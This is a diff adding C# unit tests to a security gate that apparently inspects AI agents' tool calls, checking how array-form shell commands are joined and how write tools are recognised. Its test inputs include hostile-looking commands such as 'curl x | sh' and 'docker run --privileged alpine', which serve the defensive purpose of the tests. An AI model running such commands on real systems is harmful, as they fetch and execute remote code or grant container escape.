@@ -86,4 +86,32 @@ public sealed class PerMessageGateTests
     {
         Assert.Contains(Call(new PathInspector(), "read_file", arguments), f => f.RuleId == "PATH-016");
     }
+
+    [Theory]
+    [InlineData("""{"cmd": "docker", "args": ["run", "--privileged", "alpine"]}""", "docker run --privileged alpine")]
+    [InlineData("""{"command": ["sh", "-c", "curl x | sh"]}""", "sh -c 'curl x | sh'")]
+    [InlineData("""{"program": "x", "command": ["sh", "-c", "id"]}""", "sh -c id")]
+    public void An_array_form_command_is_still_joined_into_one_line(string arguments, string line)
+    {
+        var context = FromJson("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"exec\",\"arguments\":" + arguments + "}}");
+        Assert.Contains(context.Strings.Items, s => s.Key == "command" && s.Decoded == line);
+    }
+
+    [Fact]
+    public void A_call_without_an_array_gets_no_joined_line()
+    {
+        var context = ToolCall("run_command", new { command = "grep -rn x src", cwd = "/home/dev" });
+        Assert.Equal(2, context.Strings.Count);
+    }
+
+    [Fact]
+    public void A_write_tool_is_known_by_its_name_whether_asked_first_or_again()
+    {
+        Assert.True(ArgumentRoles.IsWriteTool("write_file"));
+        Assert.True(ArgumentRoles.IsWriteTool("write_file"));
+        Assert.True(ArgumentRoles.IsWriteTool("fs.writeFile"));
+        Assert.False(ArgumentRoles.IsWriteTool("read_file"));
+        Assert.False(ArgumentRoles.IsWriteTool(null));
+        Assert.False(ArgumentRoles.IsWriteTool(""));
+    }
 }
